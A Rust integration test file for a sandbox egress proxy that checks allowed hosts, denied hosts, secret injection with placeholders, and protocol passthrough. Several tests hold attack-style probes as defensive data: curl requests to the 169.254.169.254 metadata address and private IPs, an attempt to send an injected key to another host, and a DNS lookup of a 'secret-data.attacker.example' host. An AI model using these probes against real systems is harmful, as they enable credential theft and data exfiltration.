//! The way out of a jail, with real clients inside and real servers outside.
#![allow(clippy::unwrap_used, reason = "tests may unwrap")]

mod stage;
mod upstream;

use std::fs;
use std::io::{self, Read as _, Write as _};
use std::process::Command;
use std::time::{Duration, Instant};

use stage::skipped;
use upstream::{Answer, KEY, Network, Seen};

fn hello(_: &Seen) -> Answer {
    (200, "text/plain", b"hello\n".to_vec())
}

fn has(program: &str) -> bool {
    let found = Command::new("/bin/sh").args(["-c", &format!("command -v {program}")]).output().unwrap();
    if !found.status.success() {
        skipped(program, "it is not installed here");
    }
    found.status.success()
}

#[test]
fn an_allowed_host_is_reached_through_the_proxy_and_without_it() {
    let Some(mut network) = Network::new() else { return };
    let upstream = network.serve("api.test-host.org", hello);
    // Nothing is intercepted: the programs trust the authority of `network.ca` themselves.
    let rows = [
        "curl -sS https://api.test-host.org/proxy",
        "curl -sS --noproxy '*' https://api.test-host.org/transparent",
        "curl -sS --socks5-hostname 127.0.0.1:61080 https://api.test-host.org/socks",
    ];
    for script in rows {
        let ran = network.run("", script);
        assert_eq!((ran.code, ran.out.as_str()), (Some(0), "hello\n"), "{script}: {ran:?}");
    }
    let targets: Vec<_> = upstream.seen().iter().map(|seen| seen.target.clone()).collect();
    assert_eq!(targets, ["/proxy", "/transparent", "/socks"]);
    let ledger = network.ledger();
    let opened = |line: &&str| line.contains("\"broker.connected\"") && line.contains("api.test-host.org");
    assert_eq!(ledger.lines().filter(opened).count(), 3, "{ledger}");
    let ended = |line: &&str| line.contains("\"broker.disconnected\"") && line.contains("/curl\",\"pid\":");
    assert_eq!(ledger.lines().filter(ended).count(), 3, "each names its program: {ledger}");
}

#[test]
fn a_host_that_no_rule_names_is_refused_at_once_with_the_line_that_would_allow_it() {
    let Some(network) = Network::new() else { return };
    let rows = [
        ("curl -sS https://registry.npmjs.org/x", "@npm"),
        ("curl -sS --noproxy '*' https://registry.npmjs.org/x", "@npm"),
        ("curl -sS http://unknown.test-host.org/x", "unknown.test-host.org:80"),
        ("curl -sS https://8.8.8.8/x", "8.8.8.8:443"),
    ];
    for (script, entry) in rows {
        let begun = Instant::now();
        let ran = network.run("", script);
        assert!(begun.elapsed() < Duration::from_secs(20), "{script} took {:?}", begun.elapsed());
        let allow = format!("--allow {entry}");
        assert!(ran.err.contains(&allow) || ran.out.contains(&allow), "{script}: {ran:?}");
    }
    let page = network.run("", "curl -s http://unknown.test-host.org/x");
    assert!(page.out.contains("--allow unknown.test-host.org:80"), "the answer says it too: {page:?}");
    assert!(network.ledger().contains("broker.egress-denied"));
}

#[test]
fn addresses_that_are_not_public_are_refused_unless_a_rule_names_them() {
    let Some(mut network) = Network::new() else { return };
    network.allow.push("internal.test-host.org".to_owned());
    let port = upstream::raw(|mut stream| stream.write_all(b"inside"));
    let rows = [
        format!("curl -sS -m 10 http://127.0.0.1:{port}/"),
        format!("curl -sS -m 10 --proxy http://127.0.0.1:61080 --noproxy '' http://127.0.0.1:{port}/"),
        "curl -sS -m 10 http://169.254.169.254/latest/".to_owned(),
        "curl -sS -m 10 http://[::ffff:169.254.169.254]/".to_owned(),
        "curl -sS -m 10 http://10.0.0.1/".to_owned(),
    ];
    for script in rows {
        let ran = network.run("", &script);
        assert!(!ran.out.contains("inside"), "{script}: {ran:?}");
    }
}

#[test]
fn a_secret_is_added_outside_and_the_program_sees_a_placeholder() {
    let Some(mut network) = Network::new() else { return };
    let upstream = network.serve("api.test-host.org", |seen| {
        let echoed = seen.headers.get("x-api-key").cloned().unwrap_or_default();
        (200, "text/plain", format!("key={echoed}\n").into_bytes())
    });
    let other = network.serve("other.test-host.org", hello);
    network.rest = "[[secrets]]\nname = \"test\"\nhost = \"api.test-host.org\"\npaths = [\"/v1/*\"]\n\
                    from = \"env:TEST_KEY\"\ninject = { header = \"x-api-key\" }\nplaceholder = \"API_KEY\"\n"
        .to_owned();
    let ran = network.run("", "echo \"$API_KEY\"; env | grep -c 0123456789abcdef0123; curl -sS -H \"x-api-key: $API_KEY\" https://api.test-host.org/v1/a https://api.test-host.org/v1/b");
    assert_eq!(ran.code, Some(0), "{ran:?}");
    let placeholder = ran.out.lines().next().unwrap().to_owned();
    assert!(!placeholder.is_empty() && placeholder != KEY, "{ran:?}");
    assert!(!ran.out.contains(KEY) && !ran.err.contains(KEY), "{ran:?}");
    assert_eq!(ran.out.matches(&format!("key={placeholder}")).count(), 2, "an echo is scrubbed: {ran:?}");
    let keys: Vec<_> = upstream.seen().iter().map(|seen| seen.headers["x-api-key"].clone()).collect();
    assert_eq!(keys, [KEY, KEY], "every request of a connection gets it");
    let refused = network.run("", "curl -sS -o /dev/null -w '%{http_code}' https://api.test-host.org/admin");
    assert_eq!(refused.out, "403", "{refused:?}");
    let stolen = network.run("", "curl -sS -H \"x-api-key: $API_KEY\" https://other.test-host.org/; true");
    assert!(!stolen.out.contains(KEY));
    assert!(other.seen().iter().all(|seen| !format!("{seen:?}").contains(KEY)));
    let ledger = network.ledger();
    assert!(!ledger.contains(KEY) && ledger.contains("\"secret\":\"test\""), "{ledger}");
}

#[test]
fn real_clients_trust_the_certificates_of_the_run() {
    let Some(mut network) = Network::new() else { return };
    let upstream = network.serve("api.test-host.org", hello);
    network.rest = "[[secrets]]\nname = \"test\"\nhost = \"api.test-host.org\"\nfrom = \"env:TEST_KEY\"\n\
                    inject = { bearer = true }\n"
        .to_owned();
    let java = "cat > F.java <<'E'\nimport java.net.*;import java.net.http.*;\npublic class F{public static void main(String[] a) throws Exception{System.out.print(HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(\"https://api.test-host.org/java\")).build(),HttpResponse.BodyHandlers.ofString()).body());}}\nE\njava F.java";
    let rows = [
        ("curl", "curl -sS https://api.test-host.org/curl"),
        (
            "python3",
            "python3 -c 'import urllib.request as u; print(u.urlopen(\"https://api.test-host.org/urllib\").read().decode(), end=\"\")'",
        ),
        (
            "node",
            "node -e 'fetch(\"https://api.test-host.org/node\").then(r => r.text()).then(t => process.stdout.write(t))'",
        ),
        ("wget", "wget -qO- https://api.test-host.org/wget"),
        ("java", java),
    ];
    let mut tried = 0;
    for (program, script) in rows.into_iter().filter(|(program, _)| has(program)) {
        let ran = network.run("", script);
        assert_eq!((ran.code, ran.out.as_str()), (Some(0), "hello\n"), "{program}: {ran:?}");
        tried += 1;
    }
    let seen = upstream.seen();
    assert_eq!(seen.len(), tried);
    let bearer = format!("Bearer {KEY}");
    assert!(seen.iter().all(|seen| seen.headers.get("authorization") == Some(&bearer)), "{seen:?}");
}

#[test]
fn python_libraries_work() {
    let Some(mut network) = Network::new() else { return };
    let _upstream = network.serve("api.test-host.org", hello);
    network.rest = "[[secrets]]\nname = \"test\"\nhost = \"api.test-host.org\"\nfrom = \"env:TEST_KEY\"\n\
                    inject = { bearer = true }\n"
        .to_owned();
    for library in ["requests", "httpx"] {
        let there = network.run("", &format!("python3 -c 'import {library}'"));
        if there.code != Some(0) {
            skipped(library, "it is not installed for the python3 of a jail");
            continue;
        }
        let script = format!(
            "python3 -c 'import {library}; print({library}.get(\"https://api.test-host.org/\").text, end=\"\")'"
        );
        let ran = network.run("", &script);
        assert_eq!((ran.code, ran.out.as_str()), (Some(0), "hello\n"), "{library}: {ran:?}");
    }
}

#[test]
fn git_clones_over_https() {
    let Some(mut network) = Network::new() else { return };
    let source = network.stage.path("beside");
    let script = "git init -q a && cd a && git -c user.name=a -c user.email=a@b.c commit -q --allow-empty -m one \
                  && git clone -q --bare . ../a.git && cd ../a.git && git update-server-info";
    let made = Command::new("/bin/sh").args(["-c", script]).current_dir(&source).output().unwrap();
    assert!(made.status.success(), "{made:?}");
    let _upstream = network.serve("git.test-host.org", move |seen| {
        let path = seen.target.split('?').next().unwrap_or_default().trim_start_matches('/');
        match fs::read(source.join(path)) {
            Ok(bytes) => (200, "application/octet-stream", bytes),
            Err(_) => (404, "text/plain", Vec::new()),
        }
    });
    network.rest = "[[secrets]]\nname = \"git\"\nhost = \"git.test-host.org\"\nfrom = \"env:TEST_KEY\"\n\
                    inject = { basic = \"x\" }\n"
        .to_owned();
    let ran = network.run("", "git clone -q https://git.test-host.org/a.git b && git -C b log --format=%s");
    assert_eq!((ran.code, ran.out.as_str()), (Some(0), "one\n"), "{ran:?}");
}

#[test]
fn a_declared_port_is_an_opaque_way() {
    let Some(mut network) = Network::new() else { return };
    let port = upstream::raw(|mut stream| {
        let mut start = [0; 4];
        stream.read_exact(&mut start)?;
        stream.write_all(b"hello from the database\n")?;
        io::copy(&mut stream, &mut io::sink()).map(drop)
    });
    network.name("db.test-host.org", port);
    network.allow.push("db.test-host.org:5432".to_owned());
    let python = "python3 -c 'import socket; s = socket.create_connection((\"db.test-host.org\", 5432)); s.sendall(b\"abcd\"); print(s.recv(100).decode(), end=\"\")'";
    let ran = network.run("", python);
    assert_eq!((ran.code, ran.out.as_str()), (Some(0), "hello from the database\n"), "{ran:?}");
    let other = network.run("", &python.replace("5432", "5433"));
    assert_ne!(other.code, Some(0), "{other:?}");
}

#[test]
fn psql_reaches_its_server() {
    if !has("psql") {
        return;
    }
    let Some(mut network) = Network::new() else { return };
    // Refuses TLS, then the log-in: the words of the refusal come from the server.
    let port = upstream::raw(|mut stream| {
        let request = |stream: &mut std::net::TcpStream| -> io::Result<Vec<u8>> {
            let mut length = [0; 4];
            stream.read_exact(&mut length)?;
            let mut rest = vec![0; u32::from_be_bytes(length) as usize - 4];
            stream.read_exact(&mut rest)?;
            Ok(rest)
        };
        while request(&mut stream)?[..4] != [0, 3, 0, 0] {
            stream.write_all(b"N")?;
        }
        let fields = b"SFATAL\0VFATAL\0C28000\0Mthe stand-in says hello\0\0";
        stream.write_all(b"E")?;
        stream.write_all(&u32::try_from(fields.len() + 4).unwrap().to_be_bytes())?;
        stream.write_all(fields)
    });
    network.name("db.test-host.org", port);
    network.allow.push("db.test-host.org:5432".to_owned());
    let ran = network.run("", "psql -h db.test-host.org -U me -c 'select 1' postgres");
    assert!(ran.err.contains("the stand-in says hello"), "{ran:?}");
}

#[test]
fn redis_and_ssh_reach_their_servers() {
    let Some(mut network) = Network::new() else { return };
    let redis = upstream::raw(|mut stream| {
        let mut request = [0; 512];
        while stream.read(&mut request)? > 0 {
            stream.write_all(b"+PONG from outside\r\n")?;
        }
        Ok(())
    });
    // The banner of a server; the client says that it spoke to one of this version.
    let ssh = upstream::raw(|mut stream| {
        stream.write_all(b"SSH-2.0-standin_7\r\n")?;
        io::copy(&mut stream, &mut io::sink()).map(drop)
    });
    network.name("redis.test-host.org", redis);
    network.name("ssh.test-host.org", ssh);
    network.allow.extend(["redis.test-host.org:6379", "ssh.test-host.org:22"].map(str::to_owned));
    let ssh = "timeout 5 ssh -v -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 me@ssh.test-host.org true 2>&1; true";
    let rows = [
        ("redis-cli", "redis-cli -h redis.test-host.org ping", "PONG from outside"),
        ("ssh", ssh, "standin_7"),
    ];
    for (program, script, expected) in rows.into_iter().filter(|(program, ..)| has(program)) {
        let ran = network.run("", script);
        assert!(ran.out.contains(expected), "{program}: {ran:?}");
    }
}

#[test]
fn an_empty_policy_opens_nothing() {
    let Some(network) = Network::new() else { return };
    let ran = network.run("", "curl -sS -m 20 https://example.com/; echo code $?");
    assert!(!ran.out.contains("code 0"), "{ran:?}");
    assert!(network.ledger().contains("broker.egress-denied"));
}

#[test]
fn names_are_never_resolved_outside() {
    let Some(network) = Network::new() else { return };
    let script = "python3 -c 'import socket; print(socket.getaddrinfo(\"secret-data.attacker.example\", 443)[0][4][0])'";
    let ran = network.run("", script);
    assert!(ran.out.starts_with("198.1"), "a synthetic address: {ran:?}");
}
